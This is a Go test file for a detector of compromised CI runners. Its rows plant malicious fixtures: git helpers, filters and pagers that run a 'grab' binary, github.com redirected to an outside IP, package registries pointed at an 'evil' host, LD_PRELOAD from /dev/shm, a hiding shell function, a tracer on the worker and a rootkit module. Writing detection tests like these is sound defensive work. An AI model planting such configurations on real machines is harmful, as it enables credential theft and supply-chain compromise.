package check_test

import (
	"cordon/internal/check"
)

// moreOf adds lines to a file that other rows add to as well.
func moreOf(p, lines string) func(*tree) { return func(tr *tree) { tr.more(p, lines) } }

// runtimeRows are what runs, what git and build tools start, and what was exchanged in
// place: with payloads that carry no sign but their place.
var runtimeRows = []row{
	{"git_persistence settings of an account", "shell-profiles", check.Medium, "/home/runner/.config/git/config|credential.helper", false, plainFile("/home/runner/.config/git/config", "[credential]\n\thelper = \"!f() { /usr/local/sbin/grab; }; f\"\n")},
	{"git_persistence filter of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|filter.lfs.smudge", false, moreOf("/home/ir/.gitconfig", "[filter \"lfs\"]\n\tsmudge = /usr/local/sbin/grab -- %f\n")},
	{"git_persistence filter of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|filter.lfs.smudge", false, moreOf("/home/ir/src/.git/config", "[filter \"lfs\"]\n\tsmudge = /usr/local/sbin/grab -- %f\n")},
	{"git_persistence process of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|filter.lfs.process", false, moreOf("/home/ir/.gitconfig", "[filter \"lfs\"]\n\tprocess = /usr/local/sbin/grab\n")},
	{"git_persistence process of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|filter.lfs.process", false, moreOf("/home/ir/src/.git/config", "[filter \"lfs\"]\n\tprocess = /usr/local/sbin/grab\n")},
	{"git_persistence include of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|include.path", false, moreOf("/home/ir/.gitconfig", "[include]\n\tpath = /opt/tools/gitinc\n")},
	{"git_persistence include of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|include.path", false, moreOf("/home/ir/src/.git/config", "[include]\n\tpath = /opt/tools/gitinc\n")},
	{"git_persistence another server of an account", "shell-profiles", check.High, "/home/ir/.gitconfig|https://github.com/ is fetched from", false, moreOf("/home/ir/.gitconfig", "[url \"http://198.51.100.7/\"]\n\tinsteadOf = https://github.com/\n")},
	{"git_persistence another server of a repository", "developer-tools", check.High, "/home/ir/src/.git/config|https://github.com/ is fetched from", false, moreOf("/home/ir/src/.git/config", "[url \"http://198.51.100.7/\"]\n\tinsteadOf = https://github.com/\n")},
	{"git_persistence another server by name of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|git@github.com: is fetched from", false, moreOf("/home/ir/.gitconfig", "[url \"https://git.example.net/\"]\n\tinsteadOf = git@github.com:\n")},
	{"git_persistence another server by name of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|git@github.com: is fetched from", false, moreOf("/home/ir/src/.git/config", "[url \"https://git.example.net/\"]\n\tinsteadOf = git@github.com:\n")},
	{"git_persistence diff of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|diff.external", false, moreOf("/home/ir/.gitconfig", "[diff]\n\texternal = /usr/local/sbin/grab\n")},
	{"git_persistence diff of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|diff.external", false, moreOf("/home/ir/src/.git/config", "[diff]\n\texternal = /usr/local/sbin/grab\n")},
	{"git_persistence pager without a sign of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|core.pager", false, moreOf("/home/ir/.gitconfig", "[core]\n\tpager = /usr/local/sbin/grab\n")},
	{"git_persistence pager without a sign of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|core.pager", false, moreOf("/home/ir/src/.git/config", "[core]\n\tpager = /usr/local/sbin/grab\n")},
	{"git_persistence editor of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|core.editor", false, moreOf("/home/ir/.gitconfig", "[core]\n\teditor = /usr/local/sbin/grab\n")},
	{"git_persistence editor of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|core.editor", false, moreOf("/home/ir/src/.git/config", "[core]\n\teditor = /usr/local/sbin/grab\n")},
	{"git_persistence on one line of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|sequence.editor", false, moreOf("/home/ir/.gitconfig", "[sequence] editor=/usr/local/sbin/grab #\n")},
	{"git_persistence on one line of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|sequence.editor", false, moreOf("/home/ir/src/.git/config", "[sequence] editor=/usr/local/sbin/grab #\n")},
	{"git_persistence no TLS of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|http.sslverify", false, moreOf("/home/ir/.gitconfig", "[http]\n\tsslVerify = false\n")},
	{"git_persistence no TLS of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|http.sslverify", false, moreOf("/home/ir/src/.git/config", "[http]\n\tsslVerify = false\n")},
	{"package-client yarn's program", "developer-tools", check.Medium, "/home/runner/.yarnrc.yml|yarnPath", false, moreOf("/home/runner/.yarnrc.yml", "yarnPath: /opt/tools/y.js\n")},
	{"package-client yarn's server", "developer-tools", check.Medium, "/home/runner/.yarnrc.yml|packages come from", false, moreOf("/home/runner/.yarnrc.yml", "npmRegistryServer: \"http://"+evil+"/\"\n")},
	{"package-client Maven", "developer-tools", check.Medium, "/home/runner/.m2/settings.xml", false, plainFile("/home/runner/.m2/settings.xml", "<settings><mirrors><mirror><mirrorOf>*</mirrorOf><url>http://"+evil+"/</url></mirror></mirrors></settings>")},
	{"package-client NuGet", "developer-tools", check.Medium, "/home/runner/.nuget/NuGet/NuGet.Config", false, plainFile("/home/runner/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"x\" value=\"http://"+evil+"/v3/index.json\" /></packageSources></configuration>")},
	{"dependency-caches Gradle's machine", "developer-tools", check.High, "/home/runner/.gradle/gradle.properties", false, plainFile("/home/runner/.gradle/gradle.properties", "org.gradle.jvmargs=-Xmx2g -javaagent:/opt/x.jar\n")},
	{"package-client login in NuGet's settings", "secrets-on-disk", check.High, "/home/ir/.nuget/NuGet/NuGet.Config", false, plainFile("/home/ir/.nuget/NuGet/NuGet.Config", "<configuration><packageSourceCredentials><x><add key=\"ClearTextPassword\" value=\"hunter-two-and-more\" /></x></packageSourceCredentials></configuration>")},

	{"1.1 orphan under the own systemd of the jobs' account", "orphans", check.High, "process 3201", false, func(tr *tree) {
		tr.process(3200, 1, jobUser, "systemd", "/usr/lib/systemd/systemd", jobManager+"init.scope", nil, "/lib/systemd/systemd", "--user")
		tr.process(3201, 3200, jobUser, "sleep", "/usr/bin/sleep", jobManager+"app.slice/sync.service", nil, "sleep", "9")
	}},
	{"1.1 orphan under a sudo that nobody waits for", "orphans", check.Medium, "process 3211", false, func(tr *tree) {
		tr.process(3210, 1, 0, "sudo", "/usr/bin/sudo", "/x", nil, "sudo", "-b", "-u", "runner", "sleep", "9")
		tr.process(3211, 3210, jobUser, "sleep", "/usr/bin/sleep", "/x", []string{"SUDO_USER=runner"}, "sleep", "9")
	}},
	{"1.1 orphan that sudo made root", "orphans", check.High, "process 3221", false, func(tr *tree) {
		tr.process(3220, 1, 0, "sudo", "/usr/bin/sudo", "/x", nil, "sudo", "-b", "sleep", "9")
		tr.process(3221, 3220, 0, "sleep", "/usr/bin/sleep", "/x", []string{"SUDO_USER=runner"}, "sleep", "9")
	}},
	{"ld_preload of an application that is elsewhere", "ld-preload", check.Medium, "process 3301", false, func(tr *tree) {
		tr.process(3301, 1, 0, "cron", "/usr/sbin/cron", "/system.slice/cron.service", []string{"LD_PRELOAD=/opt/x.so"}, "cron")
	}},
	{"ld_preload behind an honest one", "ld-preload", check.High, "process 3302", false, func(tr *tree) {
		tr.process(3302, 1, 0, "cron", "/usr/sbin/cron", "/system.slice/cron.service", []string{"LD_PRELOAD=/usr/lib/libjemalloc.so.2:/dev/shm/x.so"}, "cron")
	}},
	{"env-loader function in place of a program", "ld-preload", check.High, "process 3303", false, func(tr *tree) {
		tr.process(3303, 1, 0, "cron", "/usr/sbin/cron", "/system.slice/cron.service", []string{"BASH_FUNC_ls%%=() {  /bin/ls | grep -v x\n}"}, "cron")
	}},
	{"dbus policy behind another tag", "event-hooks", check.Medium, "system.d/ab.conf", false, plainFile("/etc/dbus-1/system.d/ab.conf", "<busconfig><policy context='default'><allow send_destination=\"a.b\"/><allow\n own=\"a.b\"/></policy></busconfig>\n")},
	{"1.1 tracer of the worker", "worker-memory", check.Critical, "process 3304", false, func(tr *tree) {
		tr.process(3304, 910, jobUser, "python3", "/usr/bin/python3", "/system.slice/"+ghUnitName, nil, "python3", "m.py")
		tr.file("/proc/910/status", "Name:\tRunner.Worker\nTracerPid:\t3304\nUid:\t998\t998\t998\t998\n", 0o444)
		tr.pids = append(tr.pids, 910)
	}},
	{"rootkit module that left the list", "kernel", check.High, "module diamorphine", false, func(tr *tree) {
		tr.file("/sys/module/diamorphine/initstate", "live\n", 0o444)
		tr.told = append(tr.told, "unlisted")
	}},
}

// jobManager is the control group of the services of the jobs' account.
const jobManager = "/user.slice/user-998.slice/user@998.service/"
